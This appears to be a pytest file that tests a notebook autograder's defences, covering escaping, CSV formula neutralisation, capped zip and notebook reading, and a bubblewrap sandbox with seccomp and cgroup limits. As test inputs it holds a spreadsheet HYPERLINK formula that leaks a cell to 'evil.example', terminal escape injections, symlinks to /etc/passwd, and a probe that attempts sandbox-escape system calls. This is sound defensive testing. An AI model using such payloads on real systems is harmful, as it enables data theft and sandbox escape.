"""The grader's defences one by one: safe text, capped reading, the sandbox's kernel limits.

Fast checks of the pieces that ``tests/test_grading_redteam.py`` exercises as a whole:
escaping and CSV neutralisation, collision-free feedback names, reading a submission
without following links or blocking, unpacking zips within caps, the per-file error
boundary and the batch that always ends with its CSV and JSON; and, with bubblewrap, the
seccomp filter (each denied call tried for real), the fresh session keyring, the cgroup
that kills a detached process tree, and a cleanup that a ``chmod 000`` cannot stop.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
import tempfile
import zipfile
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO / "exercises"))
import grade  # noqa: E402
import sandbox  # noqa: E402

needs_bwrap = pytest.mark.skipif(shutil.which("bwrap") is None,
                                 reason="bubblewrap is not installed")


# ----------------------------------------------------------------------------- text
@pytest.mark.parametrize(("raw", "shown"), [
    ("alice", "alice"),
    ("\x1b]0;pwned\x07x", "\\x1b]0;pwned\\x07x"),
    ("a\rb", "a\\x0db"),
    ("a\nb", "a\\x0ab"),
    ("\u202egnp.exe", "\\u202egnp.exe"),
    ("bad-\udcff", "bad-\\udcff"),
    ("caf\u00e9 \u00e0 l'\u00e9cole", "caf\u00e9 \u00e0 l'\u00e9cole"),
])
def test_control_characters_are_escaped_visibly(raw, shown):
    assert grade.clean(raw) == shown
    assert grade.clean(grade.clean(raw)) == shown  # idempotent: ids keep their key


def test_feedback_text_keeps_line_breaks_and_long_text_is_cut():
    assert grade.clean("a\nb\x1b", newlines=True) == "a\nb\\x1b"
    cut = grade.clean("x" * 1000, limit=10)
    assert cut.startswith("x" * 10) and "990 characters cut" in cut


@pytest.mark.parametrize("raw", ["=1+2", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
                                 " =1+1", "\uff1d1+1",
                                 '=HYPERLINK("http://evil.example/?leak="&A2,"x")'])
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(raw):
    cell = grade.csv_cell(raw)
    assert cell.startswith("'") or cell.startswith("\\x0"), cell  # text, or escaped
    assert "\t" not in cell and "\r" not in cell


@pytest.mark.parametrize("raw", ["alice", "ab123", "O'Brien", "1+2", "x=1"])
def test_ordinary_cells_are_left_alone(raw):
    assert grade.csv_cell(raw) == raw


def test_feedback_names_cannot_collide():
    ids = ["dup id", "dup_id", "dup-id", "Alice", "alice", "ALICE", "con", "a.b", "a_b",
           "", "\x1b[2J", "\\x1b[2J", "x" * 200, "x" * 201, "é", "e"]
    names = [grade.feedback_name(i) for i in ids]
    assert len({n.lower() for n in names}) == len(ids), names
    assert grade.feedback_name("alice") == "alice" and grade.feedback_name("dup_id") == "dup_id"
    assert all(n and "/" not in n and not n.startswith(".") for n in names)


# ----------------------------------------------------------------------------- reading
def test_special_files_are_refused_without_blocking(tmp_path):
    (tmp_path / "ok.ipynb").write_text("{}")
    assert grade.read_capped(tmp_path / "ok.ipynb", 100) == b"{}"
    os.symlink("/proc/kmsg", tmp_path / "kmsg.ipynb")
    os.symlink("/etc/passwd", tmp_path / "passwd.ipynb")
    os.symlink(tmp_path / "nowhere", tmp_path / "nowhere.ipynb")
    os.mkfifo(tmp_path / "fifo.ipynb")
    (tmp_path / "dir.ipynb").mkdir()
    messages = {}
    for name in ("kmsg", "passwd", "nowhere", "fifo", "dir"):
        with pytest.raises(grade.SubmissionError) as info:
            grade.read_capped(tmp_path / f"{name}.ipynb", 100)
        messages[name] = str(info.value)
    assert messages["kmsg"] == messages["passwd"] == messages["nowhere"]  # no oracle
    assert "not a regular file" in messages["fifo"] and "not a regular file" in messages["dir"]
    (tmp_path / "big.ipynb").write_bytes(b"x" * 101)
    with pytest.raises(grade.SubmissionError, match="larger than"):
        grade.read_capped(tmp_path / "big.ipynb", 100)


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buffer.getvalue()


NOTEBOOK = json.dumps({"cells": [{"cell_type": "code", "source": ["x = 1\n", "y = 2"]},
                                 {"cell_type": "markdown", "source": "text"}],
                       "metadata": {"otter": {"assignment_name": "set-1"}}}).encode()


def test_a_zip_gives_its_one_notebook_and_a_zip_inside_it_is_opened_once(tmp_path):
    for name, data in (("plain.zip", _zip({"a/nb.ipynb": NOTEBOOK, "a/tests/q1.py": b""})),
                       ("nested.zip", _zip({"inner.zip": _zip({"nb.ipynb": NOTEBOOK})}))):
        (tmp_path / name).write_bytes(data)
        nb = grade.load_submission(tmp_path / name)
        assert nb.cells == ["x = 1\ny = 2"] and nb.assignment == "set-1"
    (tmp_path / "deep.zip").write_bytes(_zip({"b.zip": _zip({"c.zip": _zip(
        {"nb.ipynb": NOTEBOOK})})}))
    with pytest.raises(grade.SubmissionError, match="nested deeper"):
        grade.load_submission(tmp_path / "deep.zip")


@pytest.mark.parametrize(("members", "words"), [
    ({f"f{i}": b"" for i in range(grade.MAX_ZIP_ENTRIES + 1)}, "entries"),
    ({"a.ipynb": b"0" * (grade.MAX_FILE + 1)}, "unpacks to"),
    ({"a.ipynb": NOTEBOOK, "b.ipynb": NOTEBOOK}, "2 notebooks"),
    ({}, "0 notebooks"),
])
def test_zips_are_inflated_within_caps(tmp_path, members, words):
    (tmp_path / "s.zip").write_bytes(_zip(members))
    with pytest.raises(grade.SubmissionError, match=words):
        grade.load_submission(tmp_path / "s.zip")


@pytest.mark.parametrize(("data", "words"), [
    (b'{"cells": [], "m": ' + b"[" * 100_000 + b"]" * 100_000 + b"}", "nested too deeply"),
    (b'{"cells": [' + b"[]," * (grade.MAX_JSON_VALUES + 1) + b"[]]}", "JSON values"),
    (b'{"cells": ["\xff"]}', "not UTF-8"),
    (b'{"cells": [', "not valid JSON"),
    (b'[1, 2]', "not a notebook"),
])
def test_a_notebook_is_parsed_within_caps(tmp_path, data, words):
    (tmp_path / "s.ipynb").write_bytes(data)
    with pytest.raises(grade.SubmissionError, match=words):
        grade.load_submission(tmp_path / "s.ipynb")


# ----------------------------------------------------------------------------- batch
def _autograder(path: Path) -> Path:
    test = ("from otter.test_files import test_case\nname = 'q1'\npoints = 2\n"
            "@test_case(points=2, hidden=True)\ndef t(tau):\n    assert tau == 2\n")
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("otter_config.json", json.dumps({"assignment_name": "set-1"}))
        zf.writestr("tests/q1.py", test)
    return path


@pytest.mark.filterwarnings("ignore::DeprecationWarning")  # otter's traitlets
def test_one_bad_file_costs_one_row_and_the_batch_ends_with_its_csv_and_json(
        tmp_path, monkeypatch):
    subs = tmp_path / "subs"
    subs.mkdir()
    for name in ("a", "boom", "c"):
        (subs / f"{name}.ipynb").write_bytes(NOTEBOOK)

    def fake(path, autograder, student, **kwargs):
        if student == "boom":
            raise RecursionError("a bug of the grader's")
        row = grade._row(student, path, autograder.assignment, autograder.possible)
        row.update(total=2.0, questions={"q1": {"score": 2.0, "possible": 2.0,
                                                "messages": ["passed"]}})
        return row

    monkeypatch.setattr(grade, "grade_file", fake)
    out, report = tmp_path / "g.csv", tmp_path / "g.json"
    code = grade.main([str(subs), "--autograder", str(_autograder(tmp_path / "ag.zip")),
                       "--out", str(out), "--json", str(report), "--unsafe-no-sandbox"])
    assert code == 1
    rows = {r["student_id"]: r for r in json.loads(report.read_text())}
    assert rows["a"]["total"] == rows["c"]["total"] == 2.0
    assert rows["boom"]["status"] == "grader-error" and "RecursionError" in rows["boom"]["error"]
    with open(out, newline="") as handle:
        assert len(list(csv.DictReader(handle))) == 3
    # a grade book of another layout is not appended to
    out.write_text("student_id,file,total\nx,y,1\n")
    with pytest.raises(SystemExit, match="other columns"):
        grade.main([str(subs), "--autograder", str(tmp_path / "ag.zip"), "--out", str(out),
                    "--unsafe-no-sandbox"])


@pytest.mark.filterwarnings("ignore::DeprecationWarning")
def test_an_interrupted_batch_still_writes_its_json(tmp_path, monkeypatch):
    subs = tmp_path / "subs"
    subs.mkdir()
    for name in ("a", "b"):
        (subs / f"{name}.ipynb").write_bytes(NOTEBOOK)

    def fake(path, autograder, student, **kwargs):
        if student == "b":
            import _thread

            _thread.interrupt_main()  # Ctrl-C while grading
        return grade._row(student, path, autograder.assignment, autograder.possible)

    monkeypatch.setattr(grade, "grade_file", fake)
    report = tmp_path / "g.json"
    code = grade.main([str(subs), "--autograder", str(_autograder(tmp_path / "ag.zip")),
                       "--out", str(tmp_path / "g.csv"), "--json", str(report),
                       "--unsafe-no-sandbox"])
    assert code == 130
    assert {r["student_id"] for r in json.loads(report.read_text())} <= {"a", "b"}


@pytest.mark.filterwarnings("ignore::DeprecationWarning")
def test_unreadable_files_get_their_own_row_without_running(tmp_path):
    ag = grade.Autograder.load(_autograder(tmp_path / "ag.zip"))
    os.symlink("/proc/kmsg", tmp_path / "k.ipynb")
    row = grade.grade_file(tmp_path / "k.ipynb", ag, "k", unsafe=True)
    assert row["status"] == "unreadable" and "symbolic link" in row["error"]
    (tmp_path / "w.ipynb").write_bytes(NOTEBOOK.replace(b"set-1", b"set-3"))
    row = grade.grade_file(tmp_path / "w.ipynb", ag, "w", unsafe=True, filed="set-1")
    assert row["status"] == "wrong-set" and "filed under set-1" in row["error"]


# ----------------------------------------------------------------------------- sandbox
PROBE = r'''
import ctypes, errno, json, os, platform, socket, sys, threading
add, req, ctl = {"x86_64": (248, 249, 250), "aarch64": (217, 218, 219)}[platform.machine()]
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
X86 = platform.machine() == "x86_64"
def sc(nr, *args):
    ctypes.set_errno(0)
    r = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) if isinstance(a, int) else a
                                          for a in args])
    return errno.errorcode.get(ctypes.get_errno(), "ok") if r < 0 else "ok"
out = {
    "keyctl": sc(ctl, 0, -3, 0),
    "add_key": sc(add, b"user", b"k", b"v", 1, -4),
    "request_key": sc(req, b"user", b"instructor-token", None, 0),
    "unshare": sc(X86 and 272 or 97, 0x10000000),
    "clone_newuser": sc(X86 and 56 or 220, 0x10000000 | 17, 0, 0, 0, 0),
    "personality": sc(X86 and 135 or 92, 0x0040000),
    "tiocsti": sc(X86 and 16 or 29, 0, 0x5412, b"x"),
}
try:
    socket.socket(17, socket.SOCK_RAW)
    out["packet_socket"] = "ok"
except OSError as exc:
    out["packet_socket"] = errno.errorcode[exc.errno]
t = threading.Thread(target=lambda: None); t.start(); t.join()
pid = os.fork()
if pid == 0:
    os._exit(0)
os.waitpid(pid, 0)
out["fork_and_threads"] = "ok"
for path in ("/", "/input", "/usr"):
    try:
        open(os.path.join(path, "x"), "w").close()
        out["write " + path] = "ok"
    except OSError as exc:
        out["write " + path] = errno.errorcode[exc.errno]
open("/scratch/x", "w").close()
open("/tmp/x", "w").close()
out["write scratch and tmp"] = "ok"
os.write(int(sys.argv[1]), json.dumps(out).encode())
'''


def _probe(tmp_path, *, cgroup=None, seccomp=True, code=PROBE, limits=None):
    inputs = tmp_path / "in"
    inputs.mkdir(exist_ok=True)
    (inputs / "probe.py").write_text(code)
    return sandbox.run(["/usr/bin/python3", "-I", "-S", "/input/probe.py",
                        sandbox.ANSWERS_FD], inputs=inputs, ro=[], env={"HOME": "/scratch"},
                       limits=limits or sandbox.Limits(wall=30),
                       seccomp=sandbox.seccomp_program() if seccomp else None, cgroup=cgroup)


@needs_bwrap
def test_the_seccomp_filter_denies_what_the_runner_does_not_need(tmp_path):
    outcome = _probe(tmp_path)
    got = json.loads(outcome.answers)
    denied = {k: v for k, v in got.items() if v != "ok"}
    assert denied == {"keyctl": "EPERM", "add_key": "EPERM", "request_key": "EPERM",
                      "unshare": "EPERM", "clone_newuser": "EPERM", "personality": "EPERM",
                      "tiocsti": "EPERM", "packet_socket": "EAFNOSUPPORT",
                      "write /": "EROFS", "write /input": "EROFS", "write /usr": "EROFS"}, got
    # without the filter, the kernel keyring is there (the new session keyring, empty)
    plain = json.loads(_probe(tmp_path, seccomp=False).answers)
    assert plain["keyctl"] == "ok" and plain["request_key"] == "ENOKEY"


def test_without_libseccomp_bindings_there_is_no_filter(monkeypatch):
    monkeypatch.setattr(sandbox, "_seccomp_pythons", lambda: ["/nonexistent/python"])
    sandbox.seccomp_program.cache_clear()
    try:
        with pytest.raises(sandbox.SandboxError, match="python3-seccomp"):
            sandbox.seccomp_program()
    finally:
        sandbox.seccomp_program.cache_clear()


def _pool():
    try:
        return sandbox.CgroupPool.find()
    except sandbox.CgroupError as exc:
        pytest.skip(f"no cgroup here: {exc}")


@needs_bwrap
def test_the_cgroup_kills_a_detached_process_tree_and_is_removed(tmp_path):
    pool = _pool()
    try:
        group = pool.new(sandbox.Limits(memory=512 * 2**20, processes=32))
        code = r'''
import os, sys, time
os.write(int(sys.argv[1]), b"{}")
for _ in range(5):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            import signal
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            time.sleep(600)
        os._exit(0)
os._exit(0)
'''
        outcome = _probe(tmp_path, cgroup=group, seccomp=False, code=code)
        assert outcome.answers == b"{}"
        assert group.pids() == set()
        usage = group.usage()
        assert usage["memory_peak"] > 0
        group.remove()
        assert not any(d.exists() for d in group.dirs.values())
    finally:
        pool.close()
    assert not any(p.exists() for p in pool.parents.values())


@needs_bwrap
def test_memory_written_to_tmpfs_is_charged_and_capped(tmp_path):
    pool = _pool()
    try:
        limits = sandbox.Limits(memory=256 * 2**20, tmp=512 * 2**20, wall=30)
        group = pool.new(limits)
        code = r'''
import os, sys
block = b"x" * (16 << 20)
for i in range(32):                      # 512 MiB into a tmpfs that allows it
    with open(f"/tmp/fill{i}", "wb") as handle:
        handle.write(block)
os.write(int(sys.argv[1]), b"survived")
'''
        outcome = _probe(tmp_path, cgroup=group, code=code, limits=limits)
        assert outcome.answers == b"", outcome.output
        assert group.usage()["oom_kills"] >= 1
        assert group.usage()["memory_peak"] <= limits.memory
        group.remove()
    finally:
        pool.close()


def test_cleanup_restores_permissions_and_cannot_be_defeated():
    base = Path(tempfile.mkdtemp(prefix="bmc-cleanup-test-"))  # reachable by another uid
    base.chmod(0o755)
    shutil.copy(REPO / "exercises" / "sandbox.py", base / "sandbox.py")
    target = base / "scratch"
    (target / "a" / "b").mkdir(parents=True)
    (target / "a" / "b" / "f").write_text("x")
    os.symlink("/etc", target / "a" / "link")
    script = (f"import os, sys; sys.path.insert(0, {str(base)!r}); "
              "import sandbox; "
              f"os.chmod({str(target / 'a' / 'b')!r}, 0); os.chmod({str(target / 'a')!r}, 0); "
              f"sandbox.remove_tree(sandbox.Path({str(target)!r}))")
    if os.getuid() == 0:  # root ignores permissions: show it as the owner of the files
        os.chown(base, 65534, 65534)
        for p in [target, *target.rglob("*")]:
            os.lchown(p, 65534, 65534)
        cmd = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups",
               "/usr/bin/python3", "-c", script]
    else:
        cmd = [sys.executable, "-c", script]
    try:
        done = subprocess.run(cmd, capture_output=True, text=True, timeout=60)
        assert done.returncode == 0, done.stderr
        assert not target.exists()
        assert Path("/etc/passwd").exists()
    finally:
        shutil.rmtree(base, ignore_errors=True)


# ----------------------------------------------------------------------------- identity
def test_files_are_grouped_into_one_row_per_student_id_and_set(tmp_path):
    (tmp_path / "set1").mkdir()
    for name in ("victim.ipynb", "victim.zip", "dup id.ipynb", "dup_id.ipynb",
                 "set1/filed.ipynb"):
        data = NOTEBOOK if name.endswith(".ipynb") else _zip({"v.ipynb": NOTEBOOK})
        (tmp_path / name).write_bytes(data)
    files = grade.submissions([tmp_path], {"set1": "set-1"})
    assert (tmp_path / "set1" / "filed.ipynb", "set-1") in files
    entries = {(e.assignment, e.student): e for e in grade._plan(files, None, None)}
    assert len(entries[("set-1", "victim")].files) == 2  # one row, both files
    assert ("set-1", "dup id") in entries and ("set-1", "dup_id") in entries
    assert entries[("set-1", "filed")].files[0][1] == "set-1"  # filed by its folder


def test_a_duplicate_row_names_every_files_score_and_counts_none():
    entry = grade._Entry("victim", "set-1", [(Path("victim.ipynb"), None, "set-1", ""),
                                              (Path("victim.zip"), None, "set-1", "")])
    for i, (name, total) in enumerate((("victim.ipynb", 11.0), ("victim.zip", 0.0))):
        row = grade._row("victim", Path(name), "set-1", 11.0)
        row["total"] = total
        entry.parts[i] = row
    row = grade._combine(entry)
    assert row["status"] == "duplicate" and row["total"] == 0 and row["flags"] == ["duplicate-id"]
    assert "victim.ipynb 11/11" in row["error"] and "victim.zip 0/11" in row["error"]
    assert len(row["files"]) == 2


def test_the_roster_refuses_unlisted_files(tmp_path):
    for name in ("a.ipynb", "intruder.ipynb"):
        (tmp_path / name).write_bytes(NOTEBOOK)
    files = grade.submissions([tmp_path])
    entries = grade._plan(files, {"a.ipynb": "s001"}, "set-1")
    by = {e.student: e for e in entries}
    assert by["s001"].files[0][0].name == "a.ipynb" and not by["s001"].refused
    assert "not in the roster" in by[""].refused
